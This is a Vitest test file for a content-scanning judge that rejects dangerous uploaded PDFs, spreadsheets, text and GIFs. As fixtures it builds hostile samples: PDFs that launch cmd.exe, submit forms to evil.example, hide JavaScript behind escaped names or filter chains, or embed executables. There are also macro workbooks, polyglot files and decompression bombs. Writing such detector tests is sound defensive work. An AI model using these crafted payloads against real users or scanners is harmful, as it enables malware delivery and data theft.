import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import * as hostile from '../../support/hostileFiles.ts';
import { judgeContent } from '../../../sandbox/threads/judge/judgeContent.ts';

const judge = (bytes: Buffer, extension = 'pdf') => judgeContent(new Uint8Array(bytes), extension);

describe('a PDF', () => {
  it.each([
    [['ASCII85Decode']],
    [['ASCIIHexDecode']],
    [['FlateDecode', 'FlateDecode']],
    [['ASCII85Decode', 'FlateDecode']],
    [['ASCIIHexDecode', 'ASCII85Decode', 'FlateDecode']],
    [['RunLengthDecode', 'FlateDecode']],
  ] as const)('is rejected with a script in an object stream behind %j', async filters =>
    expect(await judge(hostile.packedScript(filters))).toBe('scripted'),
  );

  it.each<[string, () => Buffer, string]>([
    ['in untyped objects', () => hostile.packedScript(['FlateDecode'], ''), 'scripted'],
    ['behind an escaped name', () => hostile.toPdf('/OpenAction << /S /Java#53cript /J#53 (x) >>'), 'scripted'],
    ['in an earlier revision', hostile.scriptOfFormerRevision, 'scripted'],
    ['in an image', hostile.scriptWithinStream, 'scripted'],
    ['in unreadable objects', hostile.unreadableObjects, 'damaged'],
    [
      'behind a custom name',
      () => hostile.toPdf('/OpenAction << /S 4 0 R /JS 5 0 R >>', ['/JavaScript', '(x)']),
      'scripted',
    ],
    [
      'under the first of two duplicate names',
      () => hostile.toPdf('/OpenAction << /S /JavaScript /S /GoTo >>'),
      'scripted',
    ],
    ['in an unterminated object', () => hostile.toPdf('', ['<< /S /JavaScript /JS (x) /Bad @@']), 'scripted'],
    ['in a dynamic XFA form', () => hostile.toPdf('/AcroForm << /Fields [] /XFA 4 0 R >>', ['(<xdp/>)']), 'scripted'],
    [
      'in a trailer',
      () =>
        Buffer.from(
          hostile.toPdf('').toString('latin1').replace('/Root 1 0 R', '/Root << /OpenAction << /S 4 0 R /JS (x) >> >>'),
          'latin1',
        ),
      'scripted',
    ],
  ])('is rejected with a script %s', async (_, make, verdict) => expect(await judge(make())).toBe(verdict));

  it.each<[string, () => Buffer, string]>([
    ['starts a program', () => hostile.toPdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'scripted'],
    ['sends a form', () => hostile.toPdf('/OpenAction << /S /SubmitForm /F (https://evil.example) >>'), 'sending'],
    ['fetches data', () => hostile.toPdf('/OpenAction << /S /ImportData /F (a.fdf) >>'), 'sending'],
    [
      'goes to a network path',
      () => hostile.toPdf('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\a) /D [0 /Fit] >>'),
      'network',
    ],
    [
      'goes to a network path by its long name',
      () => hostile.toPdf('/OpenAction << /S /GoToR /F 4 0 R >>', ['<< /Type /Filespec /UF (//evil.example/a) >>']),
      'network',
    ],
    [
      'loads an image from a network path',
      () => hostile.toPdf('', ['<< /Length 0 /F << /FS /URL /F (http://evil.example/a) >> >>\nstream\n\nendstream']),
      'network',
    ],
    [
      'opens a file by a link',
      () => hostile.toPdf('/OpenAction << /S /URI /URI (file://evil.example/a) >>'),
      'network',
    ],
    ['plays media', () => hostile.toPdf('', ['<< /Type /Annot /Subtype /RichMedia >>']), 'media'],
    ['plays a rendition', () => hostile.toPdf('/OpenAction << /S /Rendition >>'), 'media'],
    ['embeds a program', () => hostile.pdfWithFile('setup.exe', hostile.program), 'attached'],
    ['embeds a renamed program', () => hostile.pdfWithFile('data.xml', hostile.program), 'attached'],
    ['embeds a batch file', () => hostile.pdfWithFile('run.bat', Buffer.from('@echo off')), 'attached'],
    [
      'embeds a PDF with a script',
      () => hostile.pdfWithFile('a.pdf', hostile.packedScript(['FlateDecode'])),
      'attached',
    ],
    ['has program bytes before it', () => hostile.toPdf('', [], 'MZ\x90\0'), 'other'],
    ['has a shell script before it', () => hostile.toPdf('', [], '#!/bin/sh\n'), 'other'],
    ['is also a valid ZIP archive', () => Buffer.concat([hostile.toPdf(''), hostile.workbookWith({})]), 'other'],
    ['swells', () => hostile.swellingPdf(130), 'bomb'],
    ['expands in two steps', () => hostile.swellingPdf(130, ['FlateDecode', 'FlateDecode']), 'bomb'],
  ])('is rejected if it %s', async (_, make, verdict) => expect(await judge(make())).toBe(verdict));

  it.each<[string, () => Buffer | Promise<Buffer>]>([
    ['with a link to the web', () => hostile.toPdf('/OpenAction << /S /URI /URI (https://buyer.example) >>')],
    [
      'with a link to a file in the same folder',
      () => hostile.toPdf('/OpenAction << /S /GoToR /F (annexure.pdf) /D [0 /Fit] >>'),
    ],
    [
      'with embedded XML data',
      () => hostile.pdfWithFile('factur-x.xml', Buffer.from('<?xml version="1.0"?><Invoice/>')),
    ],
    [
      'whose attached PDF is not compressed and has object streams',
      () => readFileSync('tests/sandbox/server/uncompressed-attachment.pdf'),
    ],
    ['with an embedded PDF', () => hostile.pdfWithFile('annexure.pdf', hostile.toPdf(''))],
    ['after a byte order mark', () => hostile.toPdf('', [], '\u00ef\u00bb\u00bf\r\n')],
    [
      'after printer job commands',
      () => hostile.toPdf('', [], '\u001b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n'),
    ],
    ['with long pages', () => hostile.swellingPage(130)],
    ['with the word script in its title', () => hostile.toPdf('/Title (about /Launch and /JavaScript)')],
    ['with an owner password only', () => hostile.encryptedPdf('')],
  ])('%s is accepted', async (_, make) => expect(['match', 'protected']).toContain(await judge(await make())));

  it("is checked if encrypted, and rejected if it can't be decrypted", async () => {
    const scripted = await hostile.encryptedPdf('', document => document.addJavaScript('hello', 'app.alert("hello")'));
    expect(await judge(scripted)).toBe('scripted');
    expect(await judge(await hostile.encryptedPdf('secret'))).toBe('locked');
  });
});

describe('a workbook', () => {
  it.each<[string, () => Buffer, string]>([
    ['with macros', () => hostile.workbookWith({ 'xl/vbaProject.bin': 'x' }), 'macros'],
    [
      'with macros under another name',
      () =>
        hostile.workbookWith(
          { 'xl/data.bin': 'x' },
          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
      'macros',
    ],
    ['with Excel 4 macros', () => hostile.workbookWith({ 'xl/macrosheets/sheet1.xml': '<x/>' }), 'macros'],
    ['with a control', () => hostile.workbookWith({ 'xl/activeX/activeX1.xml': '<x/>' }), 'macros'],
    [
      'with an embedded program',
      () => hostile.workbookWith({ 'xl/embeddings/oleObject1.bin': hostile.program }),
      'attached',
    ],
    [
      'with an embedded object in an unusual folder',
      () =>
        hostile.workbookWith(
          { 'xl/other/object1.bin': hostile.program },
          '<Override PartName="/xl/other/object1.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        ),
      'attached',
    ],
    [
      'with a workbook that has macros',
      () => hostile.workbookWith({ 'xl/embeddings/a.xlsx': hostile.workbookWith({ 'xl/vbaProject.bin': 'x' }) }),
      'attached',
    ],
    [
      'with content types in character references',
      () =>
        hostile.workbookWith({}, '<Default Extension="bin" ContentType="application/vnd.ms-office.&#118;baProject"/>'),
      'other',
    ],
    ['that expands too far', hostile.swellingWorkbook, 'bomb'],
  ])('%s is rejected', async (_, make, verdict) => expect(await judge(make(), 'xlsx')).toBe(verdict));

  it.each<[string, () => Buffer]>([
    [
      'with printer settings',
      () =>
        hostile.workbookWith(
          { 'xl/printerSettings/printerSettings1.bin': 'x' },
          '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/>',
        ),
    ],
    ['with an embedded workbook', () => hostile.workbookWith({ 'xl/embeddings/a.xlsx': hostile.workbookWith({}) })],
    [
      'with an embedded workbook named in capitals',
      () => hostile.workbookWith({ 'xl/embeddings/A.XLSX': hostile.workbookWith({}) }),
    ],
    ['of many rows', () => hostile.workbookWith({ 'xl/worksheets/sheet1.xml': new Uint8Array(100_000_000).fill(32) })],
  ])('%s is accepted', async (_, make) => expect(await judge(make(), 'xlsx')).toBe('match'));
});

describe('text', () => {
  const mail = 'From: a@example.com\r\nSubject: Invoice\r\n\r\nHello';
  it.each<[string, Buffer, string]>([
    ['a table in UTF-16BE', Buffer.from('\uFEFFItem;Amount', 'utf16le').swap16(), 'csv'],
    ['a table in UTF-16LE', Buffer.from('\uFEFFItem;Amount', 'utf16le'), 'csv'],
    ['an e-mail with a byte order mark', Buffer.from(`\uFEFF${mail}`), 'eml'],
    ['an e-mail from a mailbox file', Buffer.from(`From a@example.com Sat Nov 21 10:00:00 2026\r\n${mail}`), 'eml'],
    [
      'an e-mail from a Unix mailbox file',
      Buffer.from(`>From a@example.com Sat Nov 21\n${mail.replaceAll('\r', '')}`),
      'eml',
    ],
  ])('%s is accepted', async (_, bytes, extension) => expect(await judge(bytes, extension)).toBe('match'));

  it.each<[string, Buffer, string]>([
    ['HTML in UTF-16BE', Buffer.from('\uFEFF<html><p>', 'utf16le').swap16(), 'csv'],
    ['HTML after a byte order mark', Buffer.from('\uFEFF<html><p>'), 'csv'],
    ['a mailbox header followed by HTML', Buffer.from('From a@example.com\r\n<html>'), 'eml'],
  ])('%s is rejected', async (_, bytes, extension) => expect(await judge(bytes, extension)).toBe('other'));
});

describe('a GIF', () => {
  const picture = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
  it.each<[string, Buffer]>([
    ['that is complete', picture],
    ['that was cut off', picture.subarray(0, 36)],
  ])('%s is accepted', async (_, bytes) => expect(await judge(bytes, 'gif')).toBe('match'));

  it.each<[string, Buffer]>([
    ['that is really a script', Buffer.from('GIF89a=1;alert(document.domain)//')],
    ['with HTML appended', Buffer.concat([picture, Buffer.from('<html><script>alert(1)</script>')])],
    ['with an archive appended', Buffer.concat([picture, Buffer.from('504b0506', 'hex'), Buffer.alloc(18)])],
  ])('%s is rejected', async (_, bytes) => expect(await judge(bytes, 'gif')).toBe('other'));
});
